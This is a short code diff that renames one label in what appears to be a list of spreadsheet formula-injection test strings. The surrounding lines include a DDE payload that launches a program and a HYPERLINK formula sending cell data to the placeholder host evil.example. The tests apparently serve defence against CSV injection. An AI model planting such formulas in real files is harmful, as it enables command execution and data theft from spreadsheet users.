@@ -33,7 +33,7 @@ const ofSpreadsheets: [what: string, text: string][] = [
   ['a call of a program', "=cmd|'/C calc'!A0"],
   ['a sum', '+1+1'],
   ['a difference', '-2+3'],
-  ['a function of old', '@SUM(1)'],
+  ['an old function', '@SUM(1)'],
   ['a link that carries the row away', '=HYPERLINK("http://evil.example/?"&A1,"Here")'],
   ['a formula behind a tab', '\t=1+1'],
   ['a formula behind a line break', '\r=1+1'],
